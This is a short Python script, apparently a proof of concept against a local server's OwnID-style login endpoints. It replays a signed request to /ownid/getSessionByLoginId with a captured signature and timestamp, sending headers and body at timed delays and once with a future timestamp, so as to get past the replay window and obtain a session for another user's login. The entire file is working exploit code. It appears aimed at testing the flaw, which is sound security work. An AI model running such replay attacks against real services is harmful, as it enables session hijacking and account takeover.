import sys, time, socket, threading
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__))); from sign import sign, raw, req
S="MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY="; PORT=int(sys.argv[1])
print(req("/ownid/setOwnIDDataByLoginId", b'{"loginId":"alice@example.com","ownIdData":"x"}', S, port=PORT).split(b"\r\n")[0])
def attempt(head_after, body_after, fut=0):
    body=b'{"loginId":"alice@example.com"}'; ts=str(int(time.time()*1000)+fut); sig=sign(S,body,ts)
    r=req("/ownid/getSessionByLoginId", body, S, ts=ts, port=PORT); print("original", r.split(b"\r\n")[0])
    t0=int(ts)/1000
    time.sleep(max(0, t0+head_after-time.time()))
    s=socket.create_connection(("127.0.0.1",PORT))
    s.sendall((f"POST /ownid/getSessionByLoginId HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\nownid-signature: {sig}\r\nownid-timestamp: {ts}\r\nConnection: close\r\n\r\n").encode())
    time.sleep(max(0, t0+body_after-time.time())); s.sendall(body); s.settimeout(15)
    out=b""
    while True:
        c=s.recv(4096)
        if not c: break
        out+=c
    print(f"copy head +{head_after}s body +{body_after}s (ts future {fut}ms):", out.split(b"\r\n")[0], out.split(b"\r\n\r\n")[-1][:80])
attempt(2.5, 9.5)
attempt(2.9, 2.95, fut=0)
attempt(5.5, 5.9, fut=2900)
